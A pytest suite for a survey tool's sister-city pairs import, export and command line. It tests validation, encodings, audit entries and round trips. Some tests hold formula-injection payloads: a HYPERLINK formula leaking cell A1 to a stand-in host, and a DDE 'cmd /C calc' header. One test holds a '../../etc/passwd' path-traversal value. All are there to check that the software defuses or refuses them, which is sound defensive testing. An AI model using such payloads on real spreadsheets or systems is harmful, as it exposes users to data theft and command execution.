"""The pairs file: all-or-nothing import, updates in place, encodings, export round trip, CLI."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select

from survey.audit import AuditEntry
from survey.studies import pairs
from survey.studies.models import Pair, PairSide, Respondent
from survey.studies.pairs_cli import pairs_group

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "survey" / "demo" / "pairs.csv"
FIXTURES = Path(__file__).resolve().parent / "fixtures"
BAD = FIXTURES / "bad"

# Each bad fixture → a problem it must be refused with: (row, column, message code).
REFUSALS = {
    "empty.csv": (None, None, "empty_file"),
    "header_only.csv": (None, None, "no_rows"),
    "missing_side_column.csv": (1, "side", "missing_column"),
    "duplicate_column.csv": (1, "Region", "duplicate_column"),
    "unknown_side.csv": (3, "side", "unknown_side"),
    "one_side.csv": (2, "side", "one_side"),
    "same_side_twice.csv": (3, "side", "duplicate_side"),
    "conflicting_kind.csv": (3, "kind", "conflict"),
    "conflicting_established.csv": (3, "established", "conflict"),
    "conflicting_attribute.csv": (3, "twinned_by", "conflict"),
    "bad_email.csv": (2, "respondent_email", "bad_email"),
    "bad_language.csv": (2, "language", "bad_language"),
    "bad_timezone.csv": (3, "timezone", "bad_timezone"),
    "bad_year.csv": (2, "established", "bad_year"),
    "bad_years_involved.csv": (2, "years_involved", "bad_years_involved"),
    "fractional_years_involved.csv": (3, "years_involved", "bad_years_involved"),
    "bad_pair_code.csv": (2, "pair", "bad_pair_code"),
    "missing_pair_code.csv": (4, "pair", "required"),
    "line_break_in_name.csv": (2, "respondent_name", "line_break"),
    "control_character.csv": (2, "place_en", "control_char"),
    "too_long.csv": (2, "place_en", "too_long"),
    "unnamed_cell.csv": (2, None, "unnamed_cell"),
    "garbage_bytes.csv": (None, None, "undecodable"),
    "nul_bytes.csv": (None, None, "not_text"),
    "utf16.csv": (None, None, "utf16"),
    "workbook_named.csv": (None, None, "xlsx_named_csv"),
    "not_a_workbook.xlsx": (None, None, "bad_xlsx"),
    "pairs.txt": (None, None, "unsupported_type"),
}
MESSAGES = {
    "unknown_side.csv": "Unknown side china: this study's sides are us, cn.",
    "one_side.csv": "Pair boulder-lhasa has only side us: add a row for side cn.",
    "same_side_twice.csv": "Side us of pair boulder-lhasa is already on row 2.",
    "conflicting_kind.csv": "state differs from city on row 2, the pair's other row.",
    "garbage_bytes.csv": "Line 3 is neither UTF-8 nor GB18030 text: give the file's encoding.",
    "bad_email.csv": "e.marsh@ is not a valid e-mail address.",
    "bad_timezone.csv": "Unknown time zone Beijing Time: use a zone name such as Asia/Shanghai, "
    "Asia/Taipei or America/New_York.",
    "line_break_in_name.csv": "Line breaks are not allowed here.",
}


def counts(session) -> dict[str, int]:
    """Rows in every table an import writes to."""
    return {
        model.__tablename__: session.scalar(select(func.count()).select_from(model))
        for model in (Pair, PairSide, Respondent, AuditEntry)
    }


def snapshot(session, study) -> list[dict]:
    """Everything about the study's pairs, as the export sees it (the export audits itself)."""
    return pairs.export_pairs(session, study)


@pytest.fixture
def study(make_study):
    return make_study()


@pytest.fixture
def demo(session, study):
    """The study with the demo pairs imported."""
    pairs.import_pairs(session, study, DEMO)
    return study


def test_the_demo_file_creates_37_pairs_with_both_sides_and_their_respondents(session, study):
    before = counts(session)
    report = pairs.import_pairs(session, study, DEMO)
    after = counts(session)
    assert report.summary() == "37 created, 0 updated, 0 unchanged"
    assert after["pairs"] - before["pairs"] == 37
    assert after["pair_sides"] - before["pair_sides"] == 74
    assert after["respondents"] - before["respondents"] == 74
    assert after["audit_entries"] - before["audit_entries"] == 1
    pair = pairs.get_pair(session, study, "boulder-lhasa")
    assert (pair.kind, pair.established) == ("city", 1987)
    lhasa = pairs.get_pair_side(pair, study, "cn")
    assert (lhasa.place_en, lhasa.place_zh, lhasa.region) == ("Lhasa", "拉萨", "Tibet")
    person = pairs.primary_respondent(lhasa)
    assert person.name == "扎西次仁"
    assert person.organization == lhasa.organization == "拉萨市外事办公室"
    assert (person.years_involved, person.language, person.is_primary) == (9, "zh-Hans", True)
    taiwan = pairs.get_pair(session, study, "portland-kaohsiung")
    assert taiwan.kind == "cross-strait"
    assert pairs.primary_respondent(pairs.get_pair_side(taiwan, study, "cn")).language == "zh-Hant"


def test_the_import_is_audited_once_without_contact_values(session, study, tmp_path):
    pairs.import_pairs(session, study, DEMO)
    changed = tmp_path / "changed.csv"
    text = DEMO.read_text(encoding="utf-8")
    changed.write_text(
        text.replace("e.marsh@example.org", "ellen@example.org").replace(
            "Boulder-Lhasa Sister City Project", "Boulder–Lhasa Project"
        ),
        encoding="utf-8",
    )
    pairs.import_pairs(session, study, changed)
    entry = session.scalars(
        select(AuditEntry).where(AuditEntry.action == "pairs.import").order_by(AuditEntry.id.desc())
    ).first()
    assert entry.study_id == study.id
    assert entry.details["updated"] == 1
    assert entry.details["unchanged"] == 36
    assert entry.details["file"] == "changed.csv"
    assert len(entry.details["sha256"]) == 64
    changes = entry.details["changes"]["boulder-lhasa"]
    assert changes["us.respondent_email"] == "changed"
    assert changes["us.organization"] == [
        "Boulder-Lhasa Sister City Project",
        "Boulder–Lhasa Project",
    ]
    assert "ellen@example.org" not in json.dumps(entry.details, ensure_ascii=False)


@pytest.mark.parametrize("name", sorted(REFUSALS))
def test_every_bad_file_is_refused_with_its_row_and_nothing_changes(session, demo, name):
    before_counts, before = counts(session), snapshot(session, demo)
    with pytest.raises(pairs.PairsImportError) as refused:
        pairs.import_pairs(session, demo, BAD / name)
    found = {(p.row, p.column, p.code) for p in refused.value.problems}
    assert REFUSALS[name] in found, found
    if name in MESSAGES:
        assert MESSAGES[name] in [p.message for p in refused.value.problems]
    assert snapshot(session, demo) == before
    # Nothing written but the audit rows of the two snapshots' exports.
    assert counts(session) == {**before_counts, "audit_entries": before_counts["audit_entries"] + 2}


def test_every_fixture_in_bad_has_an_expected_refusal():
    assert {p.name for p in BAD.iterdir()} - {"several_problems.csv"} == set(REFUSALS)
    assert len(REFUSALS) >= 15


def test_every_problem_of_a_file_is_reported_and_valid_pairs_are_not_written(session, study):
    before = counts(session)
    with pytest.raises(pairs.PairsImportError) as refused:
        pairs.import_pairs(session, study, BAD / "several_problems.csv")
    found = [(p.row, p.column, p.code) for p in refused.value.problems]
    assert found == [
        (4, "respondent_email", "bad_email"),
        (5, "kind", "conflict"),
        (5, "language", "bad_language"),
        (6, "side", "unknown_side"),
        (7, "side", "one_side"),
    ]
    assert counts(session) == before
    assert refused.value.message == "The pairs file has 5 problems; nothing was imported."


def test_a_reimport_is_a_no_op(session, demo):
    before = counts(session)
    report = pairs.import_pairs(session, demo, DEMO)
    assert report.summary() == "0 created, 0 updated, 37 unchanged"
    assert counts(session)["pairs"] == before["pairs"]


def test_a_reimport_updates_in_place_and_reports_old_and_new(session, demo, tmp_path):
    pair = pairs.get_pair(session, demo, "boulder-lhasa")
    side = pairs.get_pair_side(pair, demo, "us")
    ids = (pair.id, side.id, pairs.primary_respondent(side).id)
    edited = tmp_path / "edited.csv"
    edited.write_text(
        DEMO.read_text(encoding="utf-8")
        .replace("e.marsh@example.org", "ellen.marsh@example.org")
        .replace("boulder-lhasa,city,1987", "boulder-lhasa,city,1988")
        .replace("Ellen Marsh", "Ellen Marsh-Li"),
        encoding="utf-8",
    )
    before = counts(session)
    report = pairs.import_pairs(session, demo, edited)
    assert report.summary() == "0 created, 1 updated, 36 unchanged"
    assert [str(c) for c in report.updated["boulder-lhasa"]] == [
        "established: 1987 → 1988",
        "us.respondent_name: 'Ellen Marsh' → 'Ellen Marsh-Li'",
        "us.respondent_email: 'e.marsh@example.org' → 'ellen.marsh@example.org'",
    ]
    session.expire_all()
    pair = pairs.get_pair(session, demo, "boulder-lhasa")
    side = pairs.get_pair_side(pair, demo, "us")
    person = pairs.primary_respondent(side)
    assert (pair.id, side.id, person.id) == ids
    assert (pair.established, person.email) == (1988, "ellen.marsh@example.org")
    assert counts(session) == {**before, "audit_entries": before["audit_entries"] + 1}


def test_new_pairs_are_added_beside_existing_ones_and_absent_pairs_are_left_alone(
    session, demo, tmp_path
):
    partial = tmp_path / "partial.csv"
    lines = DEMO.read_text(encoding="utf-8").splitlines()
    partial.write_text(
        "\n".join(
            [
                *lines[:3],
                "new-pair,city,2001,us,Newtown,,,,,,,,,",
                "new-pair,city,2001,cn,新城,,,,,,,,,",
            ]
        ),
        encoding="utf-8",
    )
    report = pairs.import_pairs(session, demo, partial)
    assert report.created == ["new-pair"]
    assert report.unchanged == ["boulder-lhasa"]
    assert len(report.not_in_file) == 36
    new = pairs.get_pair(session, demo, "new-pair")
    assert all(pairs.primary_respondent(ps) is None for ps in new.sides)  # no blank respondents


def test_columns_absent_from_the_file_are_untouched_and_blank_cells_clear(session, demo, tmp_path):
    places_only = tmp_path / "places.csv"
    places_only.write_text(
        "Pair , SIDE,Place_EN,respondent_phone\n"
        "boulder-lhasa,us,Boulder (CO),\n"
        "boulder-lhasa,cn,Lhasa,+86-891-555-0112\n",
        encoding="utf-8",
    )
    report = pairs.import_pairs(session, demo, places_only)
    assert [str(c) for c in report.updated["boulder-lhasa"]] == [
        "us.place_en: 'Boulder' → 'Boulder (CO)'",
        "us.respondent_phone: '+1-303-555-0111' → (blank)",
    ]
    pair = pairs.get_pair(session, demo, "boulder-lhasa")
    us = pairs.get_pair_side(pair, demo, "us")
    assert (pair.kind, us.place_zh, pairs.primary_respondent(us).name) == (
        "city",
        "博尔德",
        "Ellen Marsh",
    )


def test_extra_columns_are_kept_as_pair_attributes_and_reported(session, study):
    report = pairs.import_pairs(session, study, FIXTURES / "extra_columns.csv")
    assert report.kept_columns == ["twinned_by", "Notes"]
    boulder = pairs.get_pair(session, study, "boulder-lhasa")
    # A blank on one row is no disagreement: the pair takes the value given.
    assert boulder.attributes == {"twinned_by": "Sister Cities International", "Notes": "友好城市"}
    assert pairs.get_pair(session, study, "portland-suzhou").attributes == {}
    again = pairs.import_pairs(session, study, FIXTURES / "extra_columns.csv")
    assert again.summary() == "0 created, 0 updated, 2 unchanged"


def test_an_attribute_blanked_in_the_file_is_removed_and_the_change_reported(
    session, study, tmp_path
):
    pairs.import_pairs(session, study, FIXTURES / "extra_columns.csv")
    blanked = tmp_path / "blanked.csv"
    blanked.write_text(
        (FIXTURES / "extra_columns.csv").read_text(encoding="utf-8").replace(",友好城市", ","),
        encoding="utf-8",
    )
    report = pairs.import_pairs(session, study, blanked)
    assert [str(c) for c in report.updated["boulder-lhasa"]] == [
        "attributes.Notes: '友好城市' → (blank)"
    ]
    assert pairs.get_pair(session, study, "boulder-lhasa").attributes == {
        "twinned_by": "Sister Cities International"
    }


@pytest.mark.parametrize(
    "name", ["pairs_utf8_bom.csv", "pairs_gb18030.csv", "pairs.xlsx", "semicolons.csv"]
)
def test_excel_encodings_and_formats_import_the_same_pairs(session, make_study, name):
    reference, other = make_study(), make_study()
    source = DEMO if name != "semicolons.csv" else FIXTURES / "semicolons.csv"
    pairs.import_pairs(session, reference, source)
    report = pairs.import_pairs(session, other, FIXTURES / name)
    assert report.created
    assert pairs.export_pairs(session, other) == pairs.export_pairs(session, reference)


def test_gb18030_text_is_read_right(session, study):
    pairs.import_pairs(session, study, FIXTURES / "pairs_gb18030.csv")
    side = pairs.get_pair_side(pairs.get_pair(session, study, "boulder-lhasa"), study, "cn")
    assert side.organization == "拉萨市外事办公室"


def test_a_given_encoding_is_used_and_a_wrong_one_reported(session, study):
    gb = FIXTURES / "pairs_gb18030.csv"
    assert pairs.import_pairs(session, study, gb, encoding="gb18030", dry_run=True).created
    with pytest.raises(pairs.PairsImportError) as wrong:
        pairs.import_pairs(session, study, gb, encoding="utf-8")
    assert wrong.value.problems[0].code == "wrong_encoding"
    with pytest.raises(pairs.PairsImportError) as unknown:
        pairs.import_pairs(session, study, gb, encoding="no-such-codec")
    assert unknown.value.problems[0].message == "Unknown encoding no-such-codec."


def test_languages_and_addresses_are_normalised(session, study, tmp_path):
    path = tmp_path / "tags.csv"
    path.write_text(
        "pair,side,respondent_name,respondent_email,language\n"
        "a-b,us,A,Someone@EXAMPLE.org,EN-us\n"
        "a-b,cn,B,,zh-TW\n"
        "c-d,us,C,,zh-CN\n"
        "c-d,cn,D,,zh_hans\n",
        encoding="utf-8",
    )
    pairs.import_pairs(session, study, path)
    found = {
        (pair.code, pairs.primary_respondent(ps).name): (
            pairs.primary_respondent(ps).language,
            pairs.primary_respondent(ps).email,
        )
        for pair in pairs.list_pairs(session, study)[0]
        for ps in pair.sides
    }
    assert found == {
        ("a-b", "A"): ("en", "Someone@example.org"),
        ("a-b", "B"): ("zh-Hant", ""),
        ("c-d", "C"): ("zh-Hans", ""),
        ("c-d", "D"): ("zh-Hans", ""),
    }


def test_time_zones_are_read_with_zoneinfo_and_written_as_their_iana_names(
    session, study, tmp_path
):
    path = tmp_path / "zones.csv"
    path.write_text(
        "pair,side,respondent_name,timezone\n"
        "a-b,us,A,america/new_york\n"
        "a-b,cn,B, Asia/Shanghai \n"
        "c-d,us,C,\n"
        "c-d,cn,D,Asia/Taipei\n",
        encoding="utf-8",
    )
    pairs.import_pairs(session, study, path)
    found = {
        pairs.primary_respondent(ps).name: pairs.primary_respondent(ps).timezone
        for pair in pairs.list_pairs(session, study)[0]
        for ps in pair.sides
    }
    assert found == {"A": "America/New_York", "B": "Asia/Shanghai", "C": None, "D": "Asia/Taipei"}
    # the export writes the column back, and importing it again changes nothing
    exported = tmp_path / "back.csv"
    exported.write_bytes(pairs.pairs_file(pairs.export_pairs(session, study), "csv"))
    assert "America/New_York" in exported.read_text(encoding="utf-8-sig")
    assert pairs.import_pairs(session, study, exported).summary() == (
        "0 created, 0 updated, 2 unchanged"
    )


@pytest.mark.parametrize(
    "zone", ["CST", "UTC+8", "../../etc/passwd", "Asia/Beijing", "Mars/Olympus_Mons", "+08:00"]
)
def test_a_time_zone_zoneinfo_does_not_know_is_refused_on_its_row(session, study, tmp_path, zone):
    path = tmp_path / "zones.csv"
    path.write_text(
        f"pair,side,respondent_name,timezone\na-b,us,A,America/Chicago\na-b,cn,B,{zone}\n",
        encoding="utf-8",
    )
    with pytest.raises(pairs.PairsImportError) as refused:
        pairs.import_pairs(session, study, path)
    assert [(p.row, p.column, p.code) for p in refused.value.problems] == [
        (3, "timezone", "bad_timezone")
    ]
    assert pairs.list_pairs(session, study)[0] == []


def test_formula_like_cells_are_stored_as_text(session, study):
    pairs.import_pairs(session, study, FIXTURES / "formula_cells.csv")
    pair = pairs.get_pair(session, study, "boulder-lhasa")
    us, cn = (pairs.get_pair_side(pair, study, code) for code in ("us", "cn"))
    assert us.organization == '=HYPERLINK("http://x.example?"&A1,"x")'
    assert pairs.primary_respondent(us).position == "@SUM(1+1)"
    assert cn.region == "-Tibet"
    assert cn.place_en == "=quoted"  # the documented transform: a leading ' before = is dropped


def test_a_dry_run_reports_and_writes_nothing(session, demo, tmp_path):
    edited = tmp_path / "edited.csv"
    edited.write_text(
        DEMO.read_text(encoding="utf-8").replace("Boulder,博尔德,Colorado,", "Boulder,博尔德,CO,"),
        encoding="utf-8",
    )
    before = counts(session)
    report = pairs.import_pairs(session, demo, edited, dry_run=True)
    assert report.dry_run
    assert [str(c) for c in report.updated["boulder-lhasa"]] == ["us.region: 'Colorado' → 'CO'"]
    assert counts(session) == before
    assert pairs.get_pair_side(
        pairs.get_pair(session, demo, "boulder-lhasa"), demo, "us"
    ).region == ("Colorado")


# ---------------------------------------------------------------- export


def test_export_then_import_changes_nothing(session, demo, tmp_path):
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"pairs.{fmt}"
        path.write_bytes(pairs.pairs_file(pairs.export_pairs(session, demo), fmt))
        report = pairs.import_pairs(session, demo, path)
        assert report.summary() == "0 created, 0 updated, 37 unchanged", fmt


def test_the_csv_export_is_rfc_4180_utf8_with_bom_in_the_file_format(session, demo):
    data = pairs.pairs_file(pairs.export_pairs(session, demo), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert table[0] == list(pairs.COLUMNS)
    assert len(table) == 1 + 74
    assert table[1][:4] == ["boulder-lhasa", "city", "1987", "us"]
    assert table[1][10] == "'+1-303-555-0111"  # Excel would compute +1-303-555-0111
    assert table[1][12] == "18"  # true numbers stay numbers


def test_formula_like_cells_are_defused_in_csv_and_xlsx_and_survive_the_round_trip(
    session, study, tmp_path
):
    pairs.import_pairs(session, study, FIXTURES / "formula_cells.csv")
    rows = pairs.export_pairs(session, study)
    table = list(csv.reader(io.StringIO(pairs.pairs_file(rows, "csv").decode("utf-8-sig"))))
    cells = {cell for row in table for cell in row}
    assert '\'=HYPERLINK("http://x.example?"&A1,"x")' in cells
    assert {"'@SUM(1+1)", "'-Tibet", "'=quoted"} <= cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    workbook = tmp_path / "pairs.xlsx"
    workbook.write_bytes(pairs.pairs_file(rows, "xlsx"))
    book = load_workbook(workbook)
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]
    book.close()
    assert pairs.import_pairs(session, study, workbook).summary() == (
        "0 created, 0 updated, 1 unchanged"
    )


@given(st.text())
def test_escape_then_unescape_gives_back_any_text(value):
    assert pairs.unescape(pairs.escape(value)) == value
    assert not str(pairs.escape(value)).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_an_attribute_header_that_looks_like_a_formula_round_trips(session, study, tmp_path):
    path = tmp_path / "odd.csv"
    path.write_text("pair,side,=cmd|' /C calc'!A0\nx-y,us,=1+1\nx-y,cn,\n", encoding="utf-8")
    pairs.import_pairs(session, study, path)
    assert pairs.get_pair(session, study, "x-y").attributes == {"=cmd|' /C calc'!A0": "=1+1"}
    exported = tmp_path / "exported.csv"
    exported.write_bytes(pairs.pairs_file(pairs.export_pairs(session, study), "csv"))
    assert exported.read_text(encoding="utf-8-sig").splitlines()[0].endswith(",'=cmd|' /C calc'!A0")
    assert pairs.import_pairs(session, study, exported).unchanged == ["x-y"]


def test_the_export_is_audited(session, demo):
    pairs.export_pairs(session, demo)
    entry = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
    assert (entry.action, entry.details) == ("pairs.export", {"pairs": 37, "rows": 74})


# ---------------------------------------------------------------- command line


def test_cli_import_prints_the_summary_and_changes(runner, session, study, tmp_path):
    result = runner.invoke(pairs_group, ["import", str(DEMO), "--study", study.slug])
    assert result.exit_code == 0, result.output
    assert f"{DEMO}: 37 created, 0 updated, 0 unchanged." in result.output
    edited = tmp_path / "pairs.csv"
    edited.write_text(
        DEMO.read_text(encoding="utf-8").replace("Boulder,博尔德,Colorado,", "Boulder,博尔德,CO,"),
        encoding="utf-8",
    )
    result = runner.invoke(pairs_group, ["import", str(edited), "--study", study.slug])
    assert result.exit_code == 0, result.output
    assert "0 created, 1 updated, 36 unchanged" in result.output
    assert "updated boulder-lhasa: us.region: 'Colorado' → 'CO'" in result.output


def test_cli_import_reports_every_problem_and_exits_1(runner, session, study):
    before = counts(session)
    path = BAD / "several_problems.csv"
    result = runner.invoke(pairs_group, ["import", str(path), "--study", study.slug])
    assert result.exit_code == 1
    assert f"{path}:4: respondent_email: not-an-address is not a valid e-mail address." in (
        result.output
    )
    assert f"{path}:7: side: Pair lone-pair has only side cn: add a row for side us." in (
        result.output
    )
    assert f"{path}: nothing was imported (5 problems)." in result.output
    assert counts(session) == before


def test_cli_file_level_problems_have_no_row(runner, study):
    path = BAD / "empty.csv"
    result = runner.invoke(pairs_group, ["import", str(path), "--study", study.slug])
    assert result.exit_code == 1
    assert f"{path}: The file is empty." in result.output


def test_cli_dry_run_writes_nothing(runner, session, study):
    before = counts(session)
    result = runner.invoke(pairs_group, ["import", str(DEMO), "--study", study.slug, "--dry-run"])
    assert result.exit_code == 0, result.output
    assert result.output.startswith("Dry run, nothing written: ")
    assert counts(session) == before


def test_cli_unknown_study_exits_1(runner):
    result = runner.invoke(pairs_group, ["import", str(DEMO), "--study", "no-such-study"])
    assert result.exit_code == 1
    assert 'no study "no-such-study"' in result.output


def test_cli_export_by_extension_and_reimport(runner, demo, tmp_path):
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"out.{fmt}"
        result = runner.invoke(pairs_group, ["export", "--study", demo.slug, "-o", str(out)])
        assert result.exit_code == 0, result.output
        assert f"Wrote 74 rows (37 pairs) to {out}." in result.output
        again = runner.invoke(pairs_group, ["import", str(out), "--study", demo.slug])
        assert "0 created, 0 updated, 37 unchanged" in again.output, again.output
    plain = tmp_path / "plain.csv"
    runner.invoke(pairs_group, ["export", "--study", demo.slug, "-o", str(plain), "--no-bom"])
    assert plain.read_bytes().startswith(b"pair,kind,")
    bad = runner.invoke(
        pairs_group, ["export", "--study", demo.slug, "-o", str(tmp_path / "x.ods")]
    )
    assert bad.exit_code == 2


def test_cli_list_as_table_and_json(runner, demo):
    table = runner.invoke(pairs_group, ["list", "--study", demo.slug])  # not a terminal: tsv
    assert table.exit_code == 0, table.output
    lines = table.output.splitlines()
    assert len(lines) == 1 + 37
    assert lines[0] == "pair\tkind\testablished\tplace_us\tplace_cn"
    assert "boulder-lhasa\tcity\t1987\tBoulder 博尔德\tLhasa 拉萨" in lines
    shown = runner.invoke(
        pairs_group, ["list", "--study", demo.slug], env={"SURVEY_TERMINAL": "1", "COLUMNS": "200"}
    ).output
    from rich.cells import cell_len

    plain = re.sub(r"\x1b\[[0-9;]*m", "", shown).splitlines()
    header = next(line for line in plain if line.startswith("Pair "))
    row = next(line for line in plain if line.startswith("boulder-lhasa"))
    # aligned under the side's label on screen: Chinese characters are two columns wide
    assert cell_len(row[: row.index("Lhasa 拉萨")]) == cell_len(header[: header.index("CN")])
    records = json.loads(
        runner.invoke(pairs_group, ["list", "--study", demo.slug, "--format", "json"]).output
    )
    boulder = next(r for r in records if r["pair"] == "boulder-lhasa")
    assert boulder["sides"]["cn"]["respondent"]["language"] == "zh-Hans"


def test_a_file_copied_anywhere_reports_its_own_name(session, study, tmp_path):
    copy = tmp_path / "我的文件.csv"
    shutil.copy(BAD / "one_side.csv", copy)
    with pytest.raises(pairs.PairsImportError) as refused:
        pairs.import_pairs(session, study, copy)
    assert str(refused.value.problems[0]) == (
        "2: side: Pair boulder-lhasa has only side us: add a row for side cn."
    )


def test_a_side_or_respondent_missing_from_a_stored_pair_is_added(session, study, tmp_path):
    """Pairs made on the pages may lack what the file has: the import adds it in place."""
    pair = Pair(study_id=study.id, code="a-b", kind="city", attributes={})
    session.add(pair)
    session.flush()
    session.add(PairSide(pair_id=pair.id, side_id=study.sides[0].id, place_en="A"))
    session.flush()
    path = tmp_path / "a-b.csv"
    path.write_text(
        "pair,kind,side,place_en,respondent_name\na-b,city,us,A,Ann\na-b,city,cn,B,Bo\n",
        encoding="utf-8",
    )
    report = pairs.import_pairs(session, study, path)
    assert [str(c) for c in report.updated["a-b"]] == [
        "us.respondent: (blank) → 'added'",
        "cn: (blank) → 'added'",
    ]
    pair = pairs.get_pair(session, study, "a-b")
    people = {pairs.primary_respondent(ps).name for ps in pair.sides}
    assert people == {"Ann", "Bo"}
    assert pairs.import_pairs(session, study, path).unchanged == ["a-b"]
